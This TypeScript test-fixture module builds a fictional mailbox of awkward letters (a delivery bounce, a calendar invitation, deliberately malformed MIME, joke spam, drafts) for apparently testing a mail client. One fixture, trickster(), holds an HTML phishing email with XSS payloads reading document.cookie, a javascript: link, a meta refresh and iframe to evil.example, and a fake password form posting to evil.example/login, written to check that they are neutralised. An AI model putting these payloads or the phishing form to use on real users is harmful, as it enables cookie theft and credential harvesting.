import { calendar } from './documents.ts';
import { mail, photo } from './files.ts';
import type { Letter } from './letter.ts';
import { compose, DAY, dateField, HOUR, partiesOf } from './letter.ts';
import type { Part } from './mime.ts';
import { file, multipart, text, transferEncode } from './mime.ts';
import type { Person } from './people.ts';
import { people } from './people.ts';
import type { Random } from './random.ts';

/** What every mailbox also holds: a bounce, a forward, nonsense, drafts, junk. */

function letter(
  mailbox: string,
  ago: number,
  now: number,
  from: Person,
  subject: string,
  part: Part,
  flags: readonly string[] = ['\\Seen'],
  to: readonly Person[] = [people.ada],
): Letter {
  const date = now - ago * DAY;
  const heading = {
    from,
    to,
    subject,
    date,
    id: `${date.toString(36)}.${mailbox.toLowerCase()}@${from.address.split('@')[1]}`,
  };
  return { mailbox, date, flags, content: compose(heading, part), parties: partiesOf(heading) };
}

const POSTMASTER: Person = {
  name: 'Mail Delivery System',
  address: 'mailer-daemon@postern.example',
  zone: 0,
};

/** A delivery report (RFC 3464) for a mistyped address. */
function bounce(now: number): Letter {
  const lost = compose(
    {
      from: people.ada,
      to: [{ name: 'P. Hask', address: 'p.hask@optcian.example', zone: 0 }],
      subject: 'The handrail is up',
      date: now - 11 * DAY,
      id: 'handrail.1@postern.example',
    },
    text('Dear Mr Hask,\n\nThe handrail is up, oak, and at the height you asked for.\n\nAda Marlowe'),
  );
  const report: Part = {
    fields: [['Content-Type', 'message/delivery-status']],
    body: Buffer.from(
      'Reporting-MTA: dns; mail.postern.example\r\n' +
        `Arrival-Date: ${dateField(now - 11 * DAY, 0)}\r\n\r\n` +
        'Final-Recipient: rfc822; p.hask@optcian.example\r\nAction: failed\r\nStatus: 5.1.2\r\n' +
        'Diagnostic-Code: smtp; 550 5.1.2 Host or domain name not found\r\n',
    ),
  };
  const readable = text(
    'I am sorry to say that your message could not be delivered to one recipient.\n\n<p.hask@optcian.example>: there is no such domain. Is there a letter missing?\n\nThe message is attached.',
  );
  const part = multipart('report', 'report-77810', [
    readable,
    report,
    { ...mail('message.eml', lost), fields: [['Content-Type', 'message/rfc822']] },
  ]);
  const typed: Part = {
    ...part,
    fields: [['Content-Type', 'multipart/report; report-type=delivery-status; boundary="report-77810"']],
  };
  return letter('INBOX', 11, now, POSTMASTER, 'Undelivered Mail Returned to Sender', typed);
}

/** An invitation as calendars send it: the words, and the event to answer (RFC 6047). */
function invitation(now: number): Letter {
  const start = now - ((now - 4 * DAY) % DAY) + 4 * DAY + 7.5 * HOUR;
  const event = calendar(
    {
      uid: 'lens-rehearsal@ramanstructures.example',
      summary: 'Lamp room: rehearsal with the curtain drawn',
      location: 'Lamp room, Saltmere Head',
      description: 'Bring gloves.\nOwen holds the other end of things.',
      start,
      end: start + 2 * HOUR,
      organizer: { name: 'Priya Raman', address: 'p.raman@ramanstructures.example' },
      attendee: { name: 'Ada Marlowe', address: 'ada@postern.example' },
    },
    'REQUEST',
  );
  const words = text(
    'Half past seven, before anybody is on the quay. Gloves, and no torches above the second landing.\n\nPriya',
  );
  const answerable: Part = {
    fields: [
      ['Content-Type', 'text/calendar; method=REQUEST; charset=utf-8'],
      ['Content-Transfer-Encoding', 'base64'],
    ],
    body: transferEncode(Buffer.from(event), 'base64'),
  };
  const attached = file('invite.ics', 'application/ics', Buffer.from(event));
  const part = multipart('mixed', 'invite-7300', [
    multipart('alternative', 'invite-7301', [words, answerable]),
    attached,
  ]);
  return letter(
    'INBOX',
    1.9,
    now,
    people.priya,
    'Invitation: lamp room, rehearsal with the curtain drawn',
    part,
    [],
  );
}

/** MIME as a broken program leaves it: no closing boundary, a wrong encoding, 8-bit header, bare line feeds. */
function malformed(now: number): Letter {
  const date = now - 13.2 * DAY;
  const raw =
    `Date: ${dateField(date, 0)}\r\nFrom: Chandlery Net <robot@chandlery-net.example\r\nTo: undisclosed recipients:;\r\n` +
    'Subject: Bestellbest\xe4tigung f\xfcr Ihre =?utf-8?B?TGF0ZXJuZQ?\r\nMessage-ID: broken\r\n' +
    'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="xx\r\nX-Mailer this line is no header\r\n\r\n' +
    '--xx\r\nContent-Type: text/plain; charset=unknown-8bit; charset="klingon"\r\nContent-Transfer-Encoding: base65\r\n\r\n' +
    'Vielen Dank f\xfcr Ihre Bestellung. Eine Laterne, rot.\nThis part never closes.\n--xx\nContent-Type: text/html;;;\n\n<p>Eine <b>Laterne<p>, rot.<img src="cid:missing">\n--x';
  return { mailbox: 'INBOX', date, flags: ['\\Seen'], content: Buffer.from(raw, 'latin1'), parties: [] };
}

/** Markup that means no good, so that it can be seen to do none. */
function trickster(now: number): Letter {
  const html = `<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"><style>body{background:url(https://img.example/track.png)}</style></head>
<body onload="alert(1)"><script>alert(document.cookie)</script><img src=x onerror="alert(2)"><form action="https://evil.example/login"><p>Your mailbox is full. Please <input name="password" type="password" placeholder="Password"> <button>Confirm</button></p></form>
<a href="javascript:alert(3)">or confirm here</a><iframe src="https://evil.example/"></iframe><svg><script>alert(4)</script></svg><div style="position:fixed;inset:0;background:url('https://img.example/cover.png')"></div></body></html>`;
  const from: Person = {
    name: 'Postern Mail Support',
    address: 'support@postern-mail-verify.example',
    zone: 0,
  };
  return letter(
    'Junk',
    4.6,
    now,
    from,
    'Your mailbox is 98% full, action required',
    text(html, { subtype: 'html' }),
    [],
  );
}

const JUNK: ReadonlyArray<readonly [who: string, subject: string, says: string]> = [
  [
    'Prince Alaric of Somewhere',
    'CONFIDENTIAL: the sum of 14,000,000 herrings',
    'Dear Friend in the Sea,\n\nI write to you in trust. My late uncle, Admiral of the Inland Fleet, left fourteen million herrings in a vault. I need only a boat, and your bank.',
  ],
  [
    'SEO Rocket',
    'ada, your website is invisible!!!',
    'Hi ada,\n\nWe looked for you on page one. We looked on page nine. For £99 a month we will stop looking.',
  ],
  [
    'Pharmacy of the Deep',
    'R0UND the clock sea-sickness pllls',
    'No prescription. No captain. No questions.',
  ],
  [
    'Lottery of Northern Shores',
    'You have WON a lighthouse',
    'Congratulations! Your email has won a lighthouse (unfurnished). To release it please pay the lightkeeper’s fee.',
  ],
  [
    'Parcel Service',
    'Your parcel could not be lifted',
    'Our driver tried to lift your parcel three times. Pay £1.99 for a stronger driver.',
  ],
  [
    'CryptoTide',
    'Moon? Tides? COINS.',
    'The first currency backed by actual water. Early swimmers get 400%.',
  ],
  [
    'Dr. Bellweather',
    'One weird trick keepers don’t want you to know',
    'Keepers hate him. He found a lamp that never needs trimming.',
  ],
  [
    'Accounts Dept',
    'Re: Re: Fwd: invoice (urgent) (final) (2)',
    'Please find invoice not attached. Kindly open it.',
  ],
  [
    'Hot Singles',
    'Single herring gulls in your area',
    'They are loud, they are local, and they have seen your chips.',
  ],
  [
    'Web Design Team',
    'I found 17 errors on your homepage',
    'The sixteenth will surprise you. The seventeenth is this email.',
  ],
];

function junk(now: number, random: Random): Letter[] {
  return JUNK.map(([name, subject, says], i) => {
    const from: Person = {
      name,
      address: `offer${i}@${random.pick(['best-deals', 'mega-post', 'win-now'])}.example`,
      zone: 180,
    };
    return letter(
      'Junk',
      1.3 + i * 3.1,
      now,
      from,
      subject,
      text(says),
      random.chance(0.3) ? ['\\Seen', '$Junk'] : ['$Junk'],
    );
  });
}

function drafts(now: number): Letter[] {
  const { ada, jonas, yuki, grace } = people;
  const flags = ['\\Draft', '\\Seen'];
  return [
    letter(
      'Drafts',
      0.3,
      now,
      ada,
      'What I shall say on Saturday',
      text(
        'Good evening.\n\nIn 1907 the keeper of this light wrote down that a wren had come in and stayed the night. He did not enter it as a visitor.\n\nTonight we are all\n\n(stop here? ask Ingrid)',
      ),
      flags,
      [grace],
    ),
    letter(
      'Drafts',
      3.5,
      now,
      ada,
      'Die Postkarte',
      text(
        'Lieber Jonas, liebe Käthe\n\nEs brennt am Samstag. Das Licht, meine ich. Sie bekommen die Postkarte, und Sie bekommen, fürchte ich, noch',
      ),
      flags,
      [jonas],
    ),
    letter(
      'Drafts',
      21,
      now,
      ada,
      'Re: 点灯式のお祝いに、紙の舟を百そう',
      text(
        'Dear Yuki,\n\nThe boats came. All hundred, and we found yours, and it is not the worst one, because',
      ),
      flags,
      [yuki],
    ),
  ];
}

/** Odds and ends in all the usual places. */
export function oddities(now: number, random: Random): Letter[] {
  const { grace, ada, tomasz, nell, margaret, seun } = people;
  const story = compose(
    {
      from: people.yuki,
      to: [ada],
      subject: '尾道の灯台',
      date: now - 35 * DAY,
      id: 'onomichi.8810@onomichi-port.example',
    },
    multipart('mixed', 'inner-8810', [
      text('灯台の写真を送ります。\n\nゆき', { charset: 'iso-2022-jp', encoding: '7bit' }),
      photo('onomichi.png', 0),
    ]),
  );
  const forward = multipart('mixed', 'fwd-4410', [
    text(
      'Look what Yuki sent me while you were on the boat. The photograph is inside the message, inside the message.\n\nG.',
    ),
    mail('尾道の灯台.eml', story),
  ]);
  const hours = (n: number): number => (n * HOUR) / DAY;
  return [
    bounce(now),
    invitation(now),
    malformed(now),
    trickster(now),
    ...junk(now, random),
    ...drafts(now),
    letter('INBOX', 15.3, now, grace, 'Fwd: 尾道の灯台', forward, ['\\Seen', '\\Flagged']),
    letter(
      'INBOX',
      hours(9.3),
      now,
      margaret,
      'Arthur’s lantern',
      text(
        'Dear Ada,\n\nI found Arthur’s lantern in the coal hole, glass and all. It was on his bicycle the night he asked me. If it is any use on Saturday I should like it carried by somebody under ten.\n\nMargaret',
      ),
      ['\\Flagged'],
    ),
    letter(
      'INBOX',
      hours(3.4),
      now,
      seun,
      '22 lantern carriers, average age 8½',
      text(
        'Dear Ada,\n\nI have twenty-two. They have been told three times not to run and have practised not running, which looks like a very slow emergency.\n\nWho carries the first one?\n\nSeun',
      ),
      [],
    ),
    letter(
      'INBOX',
      hours(1.1),
      now,
      tomasz,
      '(no text, only this)',
      multipart('mixed', 'one-1140', [photo('stone-27-in-place.png', 3)]),
      [],
    ),
    letter(
      'Trash',
      16,
      now,
      nell,
      'wrong window, sorry',
      text('3 kg leeks\n2 kg smoked haddock (undyed!!)\nphone the fish man\nNOT the other fish man'),
      ['\\Seen'],
    ),
    letter('Trash', 33, now, grace, 'test', text('test'), ['\\Seen']),
    letter(
      'Trash',
      52,
      now,
      grace,
      'test again, please ignore',
      text('The printer now sends mail. I have not asked it to.'),
      ['\\Seen'],
    ),
  ];
}
